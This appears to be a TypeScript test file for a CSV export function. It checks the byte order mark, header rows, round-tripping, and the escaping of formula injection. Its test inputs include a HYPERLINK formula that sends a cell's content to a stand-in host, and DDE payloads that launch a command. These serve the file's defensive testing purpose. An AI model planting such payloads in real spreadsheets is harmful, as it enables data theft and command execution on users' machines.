import Papa from 'papaparse';
import { createCsv } from './csv';

const read = (text: string) => Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;

test('has a byte order mark and a header row, and round-trips', () => {
  const text = createCsv(
    ['Street', 'Change'],
    [
      ['Rue "Élan", 4', -0.125],
      ['two\r\nlines', 0],
      ['', null],
    ],
  );
  expect(text).toMatch(/^\uFEFFStreet,Change\r\n/);
  expect(text.endsWith('\r\n')).toBe(true);
  expect(read(text)).toEqual([
    ['Street', 'Change'],
    ['Rue "Élan", 4', '-0.125'],
    ['two\r\nlines', '0'],
    ['', ''],
  ]);
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("https://evil.example.test?"&A1,"Roll")',
  '=cmd|"/C calc"!A0\nnext',
  '-2+3+cmd|x!A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
])('escapes the formula %j in cells and titles', (text) => {
  expect(read(createCsv([text], [[text]]))).toEqual([[`'${text}`], [`'${text}`]]);
});

test('has a header row even without rows', () => {
  expect(createCsv(['A', 'B'], [])).toBe('\uFEFFA,B\r\n');
});
